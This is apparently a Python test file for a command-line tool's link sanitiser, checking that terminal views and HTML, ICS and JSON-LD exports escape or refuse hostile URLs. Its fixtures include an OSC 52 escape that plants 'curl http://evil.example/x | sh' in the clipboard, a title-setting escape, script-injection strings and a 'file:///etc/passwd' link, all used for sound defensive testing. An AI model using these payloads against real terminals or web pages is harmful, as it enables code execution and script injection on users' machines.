"""A dataset's URL never drives the reader's terminal, page or calendar: one function
(spacetalks.output.safe_link.link_target) decides what may become a link, and every
view and export that makes one goes through it."""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import pytest
from conftest import SMALL_DATASET, Invoke
from hypothesis import given
from hypothesis import strategies as st
from terminal import run_on_terminal

from spacetalks.output.safe_link import link_target

CLIPBOARD = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
"""OSC 52: sets the clipboard (to ``curl http://evil.example/x | sh``)."""
WINDOW_TITLE = "\x1b]2;pwned\x07"
"""OSC 2: sets the window's title."""
HOSTILE_URL = f"https://evil.example/a{CLIPBOARD}{WINDOW_TITLE}b"
CLEAN_URL = "https://example.test/report?a=1&b={x}"
CLEAN_TARGET = "https://example.test/report?a=1&b=%7Bx%7D"


def dataset_with_url(directory: Path, url: str) -> Path:
    """The small dataset with every source at this URL and a topic that cites one."""
    document = copy.deepcopy(SMALL_DATASET)
    for source in document["sources"]:  # type: ignore[attr-defined]
        source["url"] = url
    document["topics"][0]["sources"] = ["src-a"]  # type: ignore[index]
    path = directory / "dataset.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


VIEWS = [
    ("show", "d2018-10-10"),
    ("why", "d2018-10-10"),
    ("sources",),
    ("who", "anna-petrova"),
    ("topics", "moon"),
]


@pytest.mark.parametrize("view", VIEWS, ids=[" ".join(view) for view in VIEWS])
def test_a_url_never_sets_the_clipboard_or_the_title_on_a_terminal(
    tmp_path: Path, view: tuple[str, ...]
) -> None:
    path = dataset_with_url(tmp_path, HOSTILE_URL)
    run = run_on_terminal("--no-bundled", "--data", str(path), *view, columns=200)
    assert run.exit_code == 0, run.stderr
    assert "\x1b]52" not in run.screen
    assert "\x1b]2;" not in run.screen
    assert "\x07" not in run.screen
    assert "\x1b]8;" not in run.screen  # not linked at all
    assert "A report" in run.screen
    if view != ("sources",):  # the sources listing links its titles, showing no address
        assert "https://evil.example/a\\x1b]52;c;" in run.screen  # shown, escaped


@pytest.mark.parametrize("view", VIEWS, ids=[" ".join(view) for view in VIEWS])
def test_a_clean_url_still_links_percent_encoded(tmp_path: Path, view: tuple[str, ...]) -> None:
    path = dataset_with_url(tmp_path, CLEAN_URL)
    run = run_on_terminal("--no-bundled", "--data", str(path), *view, columns=200)
    assert run.exit_code == 0, run.stderr
    targets = set(re.findall(r"\x1b\]8;[^;]*;([^\x1b]+)\x1b\\", run.screen))
    assert targets == {CLEAN_TARGET}


@pytest.mark.parametrize(
    ("url", "target"),
    [
        ("https://example.com/a?b=1&c=2#x", "https://example.com/a?b=1&c=2#x"),
        ("HTTP://Example.com:8080/", "http://Example.com:8080/"),
        ("https://пример.рф/путь", "https://xn--e1afmkfd.xn--p1ai/%D0%BF%D1%83%D1%82%D1%8C"),
        ("https://e.test/{", "https://e.test/%7B"),
        ('https://e.test/"><script>', "https://e.test/%22%3E%3Cscript%3E"),
        ("https://e.test/[@click=app.quit]", "https://e.test/%5B@click=app.quit%5D"),
        ("https://e.test/%zz%41", "https://e.test/%25zz%41"),
        ("https://[::1]:80/x", "https://[::1]:80/x"),
        (HOSTILE_URL, None),
        ("https://e.test/a b", None),
        ("https://e.test/\u200b", None),
        ("https://e.test/\u2028", None),
        ("https://e.test/\ue000", None),
        ("javascript:alert(1)", None),
        ("file:///etc/passwd", None),
        ("https:///no-host", None),
        ("https://user@e.test/", None),
        ("https://e.test\\@good.test/", None),
        ("https://e.test:port/", None),
        ("", None),
    ],
)
def test_what_may_become_a_link(url: str, target: str | None) -> None:
    assert link_target(url) == target


URI_CHARACTERS = re.compile(r"[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]*")


@given(st.text(max_size=40))
def test_a_link_target_is_plain_uri_text_and_kept_as_it_is(tail: str) -> None:
    target = link_target("https://example.test/" + tail)
    if target is not None:
        assert URI_CHARACTERS.fullmatch(target), target
        assert link_target(target) == target


def test_exports_link_only_to_clean_http_urls(invoke: Invoke, tmp_path: Path) -> None:
    path = dataset_with_url(tmp_path, 'https://evil.example/"><script>x</script><!--')
    data = ("--no-bundled", "--data", str(path))
    timelinejs = invoke(*data, "export", "timelinejs").stdout
    hrefs = re.findall(r'href=\\"([^"\\]*)\\"', timelinejs)
    assert hrefs
    assert set(hrefs) == {"https://evil.example/%22%3E%3Cscript%3Ex%3C/script%3E%3C!--"}
    ics = invoke(*data, "export", "ics").stdout
    assert "URL:https://evil.example/%22%3E%3Cscript%3Ex%3C/script%3E%3C!--" in ics
    page = invoke(*data, "export", "html").stdout
    assert "<script>x" not in page
    assert "<!--" not in page


def test_a_url_that_may_not_be_a_link_is_no_export_s_link(invoke: Invoke, tmp_path: Path) -> None:
    path = dataset_with_url(tmp_path, "javascript:alert(1)")
    data = ("--no-bundled", "--data", str(path))
    assert "href" not in invoke(*data, "export", "timelinejs").stdout
    assert "\nURL:" not in invoke(*data, "export", "ics").stdout
    jsonld = json.loads(invoke(*data, "export", "jsonld").stdout)
    citations = [node for event in jsonld["@graph"] for node in event["citation"]]
    assert citations
    assert all("url" not in node for node in citations)


def test_jsonld_never_holds_a_script_end_or_a_comment_raw(invoke: Invoke, tmp_path: Path) -> None:
    document = copy.deepcopy(SMALL_DATASET)
    hostile = "</script><script>alert(1)</script><!-- & more"
    document["events"][0]["title"] = hostile  # type: ignore[index]
    path = tmp_path / "dataset.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    text = invoke("--no-bundled", "--data", str(path), "export", "jsonld").stdout
    assert "<" not in text
    assert ">" not in text
    assert "&" not in text
    assert "\\u003c/script\\u003e" in text
    names = [event["name"] for event in json.loads(text)["@graph"]]
    assert hostile in names
